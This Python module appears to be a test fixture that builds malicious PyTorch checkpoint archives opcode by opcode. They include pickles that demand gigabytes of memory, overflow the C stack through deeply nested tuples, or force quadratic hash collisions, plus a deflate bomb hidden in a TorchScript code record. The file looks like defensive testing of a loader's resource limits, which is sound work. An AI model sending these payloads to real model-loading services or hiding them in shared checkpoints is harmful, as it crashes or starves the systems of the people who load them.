"""Checkpoint archives whose pickles are written opcode by opcode to exhaust a reader.

Each `*_pickle` function returns the bytes of a protocol-2 pickle that runs no code but asks an
unpickler to build far more than its size (or to crash it); `write_archive` puts one in a
`torch.save`-layout zip, with storages if given. The opcodes are those of the pickle protocol
(`pickletools` documents each one).
"""

import struct
import zipfile

PROTO_2 = b"\x80\x02"
MARK, STOP, POP = b"(", b".", b"0"
EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE = b"}", b"]", b")"
TUPLE, TUPLE1, LIST = b"t", b"\x85", b"l"
SETITEM, SETITEMS, REDUCE, BUILD, BINPERSID = b"s", b"u", b"R", b"b", b"Q"
NEWFALSE = b"\x89"


def global_name(module, name):
    return b"c" + f"{module}\n{name}\n".encode()


def memo_put(index):
    return b"r" + struct.pack("<I", index)  # LONG_BINPUT


def memo_get(index):
    return b"j" + struct.pack("<I", index)  # LONG_BINGET


def text(value):
    encoded = value.encode("utf-8")
    return b"X" + struct.pack("<I", len(encoded)) + encoded  # BINUNICODE


def integer(value):
    if 0 <= value < 1 << 31:
        return b"J" + struct.pack("<i", value)  # BININT
    encoded = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(encoded)]) + encoded  # LONG1


def write_archive(path, data, storages=None):
    """A `torch.save`-layout zip: `archive/data.pkl` = `data`, `archive/data/<key>` = each storage's bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data)
        for key, value in (storages or {}).items():
            archive.writestr(f"archive/data/{key}", value)
        archive.writestr("archive/version", "3\n")
    return path


def repeated_call_pickle(elements=1_000_000, calls=1_000, function=("torch", "Size")):
    """`{"s<i>": function(L) for i in range(calls)}`, L one memoised list of `elements` zeros.

    With `torch.Size` (the issue's case): 2 MB of pickle asking for 1,000 tuples of a million
    entries (8 GB).
    """
    parts = [PROTO_2, global_name(*function), memo_put(0), MARK, b"K\x00" * elements, LIST, memo_put(1), POP, POP,
             EMPTY_DICT, MARK]  # fmt: skip
    for index in range(calls):
        parts += [text(f"s{index}"), memo_get(0), memo_get(1), TUPLE1, REDUCE]
    return b"".join(parts + [SETITEMS, STOP])


def dict_state_pickle(entries=200_000, copies=1_000):
    """1,000 `OrderedDict`s each given (BUILD) the same memoised state of 200,000 attributes: copied
    into each one's `__dict__` by a plain unpickler (200 million entries)."""
    parts = [PROTO_2, global_name("collections", "OrderedDict"), memo_put(0), EMPTY_DICT, memo_put(1), MARK]
    for index in range(entries):
        parts += [integer(index), NEWFALSE]
    parts += [SETITEMS, POP, POP, EMPTY_DICT, MARK]  # the class and the state stay in the memo
    for index in range(copies):
        parts += [text(f"d{index}"), memo_get(0), EMPTY_TUPLE, REDUCE, memo_get(1), BUILD]
    return b"".join(parts + [SETITEMS, STOP])


def memo_index_pickle(index=0x7FFF_FFF0):
    """One object stored at memo index `index`: the C unpickler sizes its memo table to twice the index (32 GB)."""
    return PROTO_2 + EMPTY_DICT + memo_put(index) + STOP


def nested_tuple_key_pickle(depth=1_000_000):
    """A dict whose key is a tuple nested `depth` deep (1 MB): hashing it overflows the C stack (a crash)."""
    return PROTO_2 + EMPTY_DICT + EMPTY_TUPLE + TUPLE1 * depth + NEWFALSE + SETITEM + STOP


def colliding_keys_pickle(count=20_000):
    """A dict of `count` integer keys that all have the hash 0 (multiples of 2**61 - 1): quadratic insertion."""
    parts = [PROTO_2, EMPTY_DICT, MARK]
    for index in range(1, count + 1):
        parts += [integer(index * ((1 << 61) - 1)), NEWFALSE]
    return b"".join(parts + [SETITEMS, STOP])


def _tensor(size, stride, storage_key="0", numel=1):
    """`torch._utils._rebuild_tensor_v2(<float storage key, numel elements>, 0, size, stride, False, OrderedDict())`."""
    storage = [MARK, text("storage"), global_name("torch", "FloatStorage"), text(storage_key), text("cpu"),
               integer(numel), TUPLE, BINPERSID]  # fmt: skip
    sizes = [MARK, *(integer(extent) for extent in size), TUPLE]
    strides = [MARK, *(integer(step) for step in stride), TUPLE]
    ordered_dict = [global_name("collections", "OrderedDict"), EMPTY_TUPLE, REDUCE]
    return [global_name("torch._utils", "_rebuild_tensor_v2"), MARK, *storage, integer(0), *sizes, *strides,
            NEWFALSE, *ordered_dict, TUPLE, REDUCE]  # fmt: skip


def repeating_view_pickle(extent=100_000):
    """`{"weight": <extent x extent view with strides (0, 0) of a one-element storage>}` (40 GB when read)."""
    return b"".join([PROTO_2, EMPTY_DICT, text("weight"), *_tensor((extent, extent), (0, 0)), SETITEM, STOP])


def reshaped_tensor_pickle(shape=(100_000, 100_000)):
    """`{"weight": <a 1-element tensor>}` then BUILD on the tensor with `{"shape": shape}`: a plain
    unpickler sets the attribute, making the record describe 40 GB."""
    state = [EMPTY_DICT, text("shape"), MARK, *(integer(extent) for extent in shape), TUPLE, SETITEM]
    return b"".join([PROTO_2, EMPTY_DICT, text("weight"), *_tensor((1,), (1,)), *state, BUILD, SETITEM, STOP])


def one_float_storage():
    return {"0": struct.pack("<f", 1.0)}


def small_state_dict_pickle():
    """`{"weight": <float tensor of size (2, 3)>}` over storage "0" of six floats: a valid checkpoint."""
    return b"".join([PROTO_2, EMPTY_DICT, text("weight"), *_tensor((2, 3), (3, 1), numel=6), SETITEM, STOP])


def six_float_storage():
    return {"0": struct.pack("<6f", 1, 2, 3, 4, 5, 6)}


def write_code_bomb_archive(path, unpacked_bytes=256 << 20):
    """A TorchScript-layout archive (one `__torch__.model.CLIP` holding a tensor) whose `code/` record is
    `unpacked_bytes` of deflated spaces: ~1/1000 of that in the file, all of it when read."""
    module = [global_name("__torch__.model", "CLIP"), EMPTY_TUPLE, b"\x81", EMPTY_DICT, text("weight"),
              *_tensor((1,), (1,)), SETITEM, BUILD]  # NEWOBJ, then its state  # fmt: skip
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("script/data.pkl", b"".join([PROTO_2, *module, STOP]))
        archive.writestr("script/data/0", one_float_storage()["0"])
        bomb = zipfile.ZipInfo("script/code/__torch__/model.py")
        bomb.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(bomb, "w") as code:
            chunk = b" " * (1 << 20)
            for _ in range(unpacked_bytes // len(chunk)):
                code.write(chunk)
    return path
